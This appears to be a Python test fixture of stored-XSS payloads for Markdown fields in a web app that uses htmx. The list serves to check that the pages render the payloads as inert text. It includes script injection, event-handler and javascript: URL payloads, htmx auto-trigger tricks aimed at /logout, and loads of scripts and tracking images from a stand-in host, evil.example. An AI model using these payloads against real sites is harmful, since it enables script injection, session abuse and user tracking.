"""Stored-XSS payloads for Markdown fields (journal sections, notes).

Each payload, if it ever ran, would call alert()/confirm()/prompt() (caught as a dialog),
set `window.__xss`, trigger an htmx request (to /logout or elsewhere), or fetch something from
EVIL_HOST. A safe page shows them as text, runs none of them, and requests nothing unexpected.
"""

EVIL_HOST = "evil.example"

XSS_PAYLOADS: list[str] = [
    # Script elements
    "<script>window.__xss=1</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(2);//<</script>",
    '"><script>alert(3)</script>',
    "</textarea><script>window.__xss=4</script>",
    "</title><script>alert(5)</script>",
    # Event handlers
    "<img src=x onerror=alert(6)>",
    '<img src="x" onerror="window.__xss=7">',
    "<img src=x onerror=&#97;lert(8)>",
    "<body onload=alert(9)>",
    "<details open ontoggle=alert(10)>x</details>",
    "<input autofocus onfocus=alert(11)>",
    "<video><source onerror=alert(12)></video>",
    "<audio src=x onerror=alert(13)>",
    "<marquee onstart=alert(14)>x</marquee>",
    '<div onmouseover="alert(15)" style="position:fixed;inset:0">x</div>',
    # javascript:, data: and other URL schemes
    "[klikk](javascript:alert(16))",
    "[klikk](JaVaScRiPt:alert(17))",
    "[klikk](javascript&#58;alert(18))",
    "[klikk]( javascript:alert(19))",
    "[klikk](vbscript:msgbox(20))",
    "[klikk](data:text/html,<script>alert(21)</script>)",
    "<javascript:alert(22)>",
    '<a href="javascript:alert(23)">x</a>',
    '<a href="&#x6A;avascript:alert(24)">x</a>',
    '[title](https://example.org/ "x\\" onmouseover=\\"alert(25)")',
    "![kép](javascript:alert(26))",
    "![kép](https://evil.example/track.png)",
    '<img src="https://evil.example/pixel.png">',
    '<iframe src="javascript:alert(27)"></iframe>',
    '<iframe srcdoc="<script>parent.__xss=28</script>"></iframe>',
    '<object data="javascript:alert(29)"></object>',
    '<embed src="javascript:alert(30)">',
    '<form action="javascript:alert(31)"><button>Küldés</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(32)">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<div style="background:url(https://evil.example/bg.png)">x</div>',
    # SVG and MathML
    "<svg onload=alert(33)>",
    "<svg><script>alert(34)</script></svg>",
    '<svg><a xlink:href="javascript:alert(35)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(36) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(37)>",
    # htmx attributes, plain and data- prefixed
    '<div hx-get="/logout" hx-trigger="load">x</div>',
    '<div data-hx-post="/logout" data-hx-trigger="load">x</div>',
    '<button hx-on:click="alert(38)">x</button>',
    '<div hx-on::load="window.__xss=39">x</div>',
    '<x hx-on:htmx:load="alert(40)">x</x>',
    '<div hx-get="https://evil.example/" hx-trigger="load" hx-target="body">x</div>',
    '<hx-partial hx-target="body" hx-swap="innerHTML">elrontva</hx-partial>',
    '<div hx-ignore="false" hx-post="/logout" hx-trigger="load">x</div>',
    '[link](/logout "hx-post") <a href="/logout" hx-post="/logout" hx-trigger="load">x</a>',
    # Broken markup and parser confusion
    '<img src="x',
    '" onerror="alert(41)">',
    '<!--<img src="--><img src=x onerror=alert(42)//">',
    '<noscript><p title="</noscript><img src=x onerror=alert(43)>">',
    "<a href='x' <img src=x onerror=alert(44)>",
    "`<script>alert(45)</script>` és ```\n<img src=x onerror=alert(46)>\n```",
    "{{ 7*7 }} {% raw %}<script>alert(47)</script>{% endraw %}",
    "<template><img src=x onerror=alert(48)></template>",
]
